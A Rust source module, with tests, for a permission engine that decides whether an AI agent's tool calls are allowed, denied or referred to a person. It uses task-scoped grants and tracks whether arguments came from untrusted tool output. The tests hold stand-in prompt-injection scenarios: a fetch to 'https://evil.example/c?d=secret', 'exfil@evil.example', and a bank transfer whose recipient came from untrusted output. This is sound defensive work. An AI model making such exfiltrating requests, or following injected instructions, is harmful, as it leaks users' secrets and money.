//! Task-scoped authority and the shipped profile: rulings that follow from the spec alone —
//! fixed from the trusted objective before the decider reads anything — and from where each
//! argument's value came from.
//!
//! - A step's **grant** names the tools it may call and constraints on their arguments
//!   (allowed sources, allowed values, numeric bounds). A call within it is allowed here; one
//!   outside it is denied, or asked about when the grant says `beyond: ask`.
//! - The **`untrusted-input` profile**, for a call its step's grant does not cover: a commit is
//!   asked about when the decider had read untrusted text when it proposed it, or an argument
//!   is traced to untrusted output; a read is asked about when an address it is sent to (a
//!   URL, an e-mail address, a host name) is not traced to a trusted source.
//!
//! Every ruling explains itself; an authority (Cedar policies) rules as well, and the stricter
//! answer wins.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::event::Effect;
use crate::provenance::{ArgLabel, Source};
use crate::spec::{ArgConstraint, Beyond, Grant, GrantSource, Profile, StepSpec};

/// What the grant and the profile say of one call.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Ruling {
    /// Nothing against it.
    Allow,
    /// A person must approve it, for this reason.
    Ask(String),
    /// It is denied, for this reason.
    Deny(String),
}

/// One call as the grant and the profile see it.
#[derive(Clone, Copy, Debug)]
pub struct Call<'a> {
    /// Its step.
    pub step: &'a StepSpec,
    /// The tool.
    pub tool: &'a str,
    /// Read or commit.
    pub effect: Effect,
    /// The arguments to execute.
    pub args: &'a Value,
    /// Where each leaf came from.
    pub labels: &'a [ArgLabel],
    /// The untrusted providers whose text the decider had read when it proposed the call.
    pub taint: &'a [String],
    /// The providers the spec trusts.
    pub trusted: &'a BTreeSet<String>,
    /// The grant that rules the step: its own, or the one the run's plan gave it.
    pub grant: Option<&'a Grant>,
}

/// Whether a decider's plan (`plan_first`) grants only steps that have no grant of their own,
/// and only tools those steps allow.
pub fn check_plan(
    spec: &crate::spec::Spec,
    grants: &std::collections::BTreeMap<String, Grant>,
) -> Result<(), String> {
    for (step, grant) in grants {
        let Some(s) = spec.steps.iter().find(|s| *s.id.0 == **step) else {
            return Err(format!(
                "the plan grants step `{step}`, which the spec does not have"
            ));
        };
        if s.grant.is_some() {
            return Err(format!(
                "the plan grants step `{step}`, which has its own grant"
            ));
        }
        if let Some(tool) = grant.tools.keys().find(|t| !s.tools.contains(t)) {
            return Err(format!(
                "the plan grants `{tool}` in step `{step}`, which that step does not allow"
            ));
        }
    }
    Ok(())
}

/// The grant's and the profile's ruling on `call`.
pub fn rule(call: &Call<'_>, profile: Option<Profile>) -> Ruling {
    if let Some(grant) = call.grant {
        return match within(grant, call) {
            Ok(()) => Ruling::Allow,
            Err(why) => {
                let why = format!("outside the step's grant: {why}");
                match grant.beyond {
                    Beyond::Deny => Ruling::Deny(why),
                    Beyond::Ask => Ruling::Ask(why),
                }
            }
        };
    }
    match profile {
        None => Ruling::Allow,
        Some(Profile::UntrustedInput) => untrusted_input(call),
    }
}

/// The top-level argument a label's pointer is under.
fn top(label: &ArgLabel) -> &str {
    label
        .pointer
        .trim_start_matches('/')
        .split('/')
        .next()
        .unwrap_or("")
}

/// Whether a value from `source` may stand where the grant allows `allowed`.
fn admitted(source: &Source, allowed: &[GrantSource], trusted: &BTreeSet<String>) -> bool {
    let kind = match source {
        Source::Objective => GrantSource::Objective,
        Source::Input { .. } => GrantSource::Input,
        Source::Carried { .. } => GrantSource::Carried,
        Source::ProviderOutput { provider, .. } if trusted.contains(provider) => {
            GrantSource::TrustedOutput
        }
        Source::ProviderOutput { .. } => return false,
        Source::Description { provider } if trusted.contains(provider) => {
            GrantSource::TrustedOutput
        }
        Source::Description { .. } => return false,
        Source::Decider { tainted_by } if tainted_by.is_empty() => GrantSource::Decider,
        Source::Decider { .. } => return false,
        // A log recorded before the taint of a context was known: no better than a decider.
        Source::Unobserved => GrantSource::Decider,
    };
    allowed.contains(&kind)
}

fn within(grant: &Grant, call: &Call<'_>) -> Result<(), String> {
    let Some(constraints) = grant.tools.get(call.tool) else {
        return Err(format!("`{}` is not among its tools", call.tool));
    };
    for (arg, c) in constraints {
        let Some(value) = call.args.get(arg) else {
            continue;
        };
        check(arg, value, c, call)?;
    }
    Ok(())
}

fn check(arg: &str, value: &Value, c: &ArgConstraint, call: &Call<'_>) -> Result<(), String> {
    if !c.from.is_empty() {
        for label in call.labels.iter().filter(|l| top(l) == arg) {
            if !admitted(&label.source, &c.from, call.trusted) {
                let allowed: Vec<String> = c
                    .from
                    .iter()
                    .map(|s| format!("{s:?}").to_lowercase())
                    .collect();
                return Err(format!(
                    "`{arg}` came from {}, and may only come from {}",
                    label.source,
                    allowed.join(" or ")
                ));
            }
        }
    }
    if !c.one_of.is_empty() && !c.one_of.contains(value) {
        return Err(format!("`{arg}` is {value}, not one of the granted values"));
    }
    if let Some(n) = value.as_f64() {
        if c.min.is_some_and(|min| n < min) || c.max.is_some_and(|max| n > max) {
            return Err(format!(
                "`{arg}` is {value}, outside the granted bounds{}{}",
                c.min
                    .map(|m| format!(" (at least {m})"))
                    .unwrap_or_default(),
                c.max.map(|m| format!(" (at most {m})")).unwrap_or_default()
            ));
        }
    } else if c.min.is_some() || c.max.is_some() {
        return Err(format!("`{arg}` is {value}, not a number"));
    }
    Ok(())
}

/// Whether a source is one a person (or the spec) vouches for.
fn trusted_source(source: &Source, trusted: &BTreeSet<String>) -> bool {
    match source {
        Source::Objective | Source::Input { .. } | Source::Carried { .. } => true,
        Source::ProviderOutput { provider, .. } | Source::Description { provider } => {
            trusted.contains(provider)
        }
        Source::Decider { tainted_by } => tainted_by.is_empty(),
        Source::Unobserved => false,
    }
}

/// Whether a string looks like an address a read could carry data to.
fn address_like(s: &str) -> bool {
    let s = s.trim();
    if s.contains("://") {
        return true;
    }
    let no_space = !s.contains(char::is_whitespace);
    let at = s
        .split_once('@')
        .is_some_and(|(u, d)| !u.is_empty() && d.contains('.'));
    // A host name, maybe with a path or port: `evil.example/drop`, `files.example.net:8080`.
    let host_part = s.split(['/', ':']).next().unwrap_or("");
    let host = host_part.contains('.')
        && host_part
            .rsplit('.')
            .next()
            .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
        && host_part
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'));
    no_space && (at || host)
}

fn untrusted_input(call: &Call<'_>) -> Ruling {
    let origins = |wanted: &dyn Fn(&ArgLabel) -> bool| -> Vec<String> {
        call.labels
            .iter()
            .filter(|l| wanted(l))
            .map(|l| format!("`{}` came from {}", l.pointer, l.source))
            .collect()
    };
    match call.effect {
        Effect::Commit => {
            let untrusted = origins(&|l: &ArgLabel| !trusted_source(&l.source, call.trusted));
            if call.taint.is_empty() && untrusted.is_empty() {
                return Ruling::Allow;
            }
            let mut why = vec![format!("untrusted-input profile: `{}` commits", call.tool)];
            if !call.taint.is_empty() {
                why.push(format!(
                    "the decider had read output of {} (untrusted) when it proposed it",
                    call.taint.join(", ")
                ));
            }
            why.extend(untrusted);
            Ruling::Ask(why.join("; "))
        }
        Effect::Read => {
            let mut leaves = Vec::new();
            crate::provenance::visit_leaves(call.args, &mut String::new(), &mut |p, leaf| {
                if let Value::String(s) = leaf
                    && address_like(s)
                {
                    leaves.push(p.to_owned());
                }
            });
            let unvouched = origins(&|l: &ArgLabel| {
                leaves.contains(&l.pointer) && !trusted_source(&l.source, call.trusted)
            });
            if unvouched.is_empty() {
                Ruling::Allow
            } else {
                Ruling::Ask(format!(
                    "untrusted-input profile: `{}` would reach an address no trusted source gave: {}",
                    call.tool,
                    unvouched.join("; ")
                ))
            }
        }
    }
}

#[cfg(test)]
#[allow(clippy::indexing_slicing, reason = "tests")]
mod tests {
    use super::*;
    use crate::ids::CallId;
    use serde_json::json;

    fn step(grant: Option<&str>) -> StepSpec {
        let mut s: StepSpec = serde_json::from_value(json!({
            "id": "pay", "provider": "bank", "tools": ["read_statement", "transfer", "fetch"]
        }))
        .unwrap();
        s.grant =
            grant.map(|g| crate::spec::parse_document(g, crate::spec::Format::Yaml, "g").unwrap());
        s
    }

    fn label(p: &str, source: Source) -> ArgLabel {
        ArgLabel {
            pointer: p.into(),
            source,
            also: Vec::new(),
        }
    }

    fn untrusted() -> Source {
        Source::ProviderOutput {
            provider: "bank".into(),
            call: CallId(1),
        }
    }

    fn rule_on(
        step: &StepSpec,
        tool: &str,
        effect: Effect,
        args: Value,
        labels: &[ArgLabel],
        taint: &[&str],
    ) -> Ruling {
        let taint: Vec<String> = taint.iter().map(|t| (*t).to_owned()).collect();
        let trusted = BTreeSet::new();
        rule(
            &Call {
                step,
                tool,
                effect,
                args: &args,
                labels,
                taint: &taint,
                trusted: &trusted,
                grant: step.grant.as_ref(),
            },
            Some(Profile::UntrustedInput),
        )
    }

    #[test]
    fn a_call_within_the_grant_is_allowed_and_one_outside_is_denied_or_asked() {
        let s = step(Some(
            "tools:\n  read_statement: {}\n  transfer:\n    to: {from: [objective]}\n    amount: {max: 950}\n",
        ));
        let args = json!({"to": "DE89370400440532013000", "amount": 950});
        let ok = [
            label("/to", Source::Objective),
            label("/amount", Source::Objective),
        ];
        assert_eq!(
            rule_on(&s, "transfer", Effect::Commit, args.clone(), &ok, &["bank"]),
            Ruling::Allow
        );
        let swapped = [
            label("/to", untrusted()),
            label("/amount", Source::Objective),
        ];
        assert!(matches!(
            rule_on(&s, "transfer", Effect::Commit, args, &swapped, &["bank"]),
            Ruling::Deny(w) if w.contains("`to` came from the output of `bank`")
        ));
        let much = json!({"to": "DE89370400440532013000", "amount": 5000});
        assert!(
            matches!(rule_on(&s, "transfer", Effect::Commit, much, &ok, &[]), Ruling::Deny(w) if w.contains("at most 950"))
        );
        assert!(
            matches!(rule_on(&s, "fetch", Effect::Read, json!({}), &[], &[]), Ruling::Deny(w) if w.contains("not among its tools"))
        );
        let asks = step(Some("tools: {}\nbeyond: ask\n"));
        assert!(matches!(
            rule_on(&asks, "fetch", Effect::Read, json!({}), &[], &[]),
            Ruling::Ask(_)
        ));
    }

    #[test]
    fn the_profile_asks_about_tainted_commits_and_reads_to_unvouched_addresses() {
        let s = step(None);
        let args = json!({"to": "DE89370400440532013000", "amount": 950});
        let clean = [
            label("/to", Source::Objective),
            label("/amount", Source::Decider { tainted_by: vec![] }),
        ];
        assert_eq!(
            rule_on(&s, "transfer", Effect::Commit, args.clone(), &clean, &[]),
            Ruling::Allow
        );
        assert!(matches!(
            rule_on(&s, "transfer", Effect::Commit, args, &clean, &["mail"]),
            Ruling::Ask(w) if w.contains("had read output of mail")
        ));
        let fetch = json!({"url": "https://evil.example/c?d=secret"});
        let from_mail = [label(
            "/url",
            Source::Decider {
                tainted_by: vec!["mail".into()],
            },
        )];
        assert!(matches!(
            rule_on(
                &s,
                "fetch",
                Effect::Read,
                fetch.clone(),
                &from_mail,
                &["mail"]
            ),
            Ruling::Ask(_)
        ));
        let asked = [label("/url", Source::Objective)];
        assert_eq!(
            rule_on(&s, "fetch", Effect::Read, fetch, &asked, &["mail"]),
            Ruling::Allow
        );
        let plain = json!({"query": "rent"});
        assert_eq!(
            rule_on(
                &s,
                "fetch",
                Effect::Read,
                plain,
                &[label("/query", untrusted())],
                &["bank"]
            ),
            Ruling::Allow
        );
        assert!(address_like("exfil@evil.example"));
        assert!(address_like("evil.example/drop"));
        assert!(!address_like("rent, November"));
        assert!(!address_like("3.5"));
    }
}
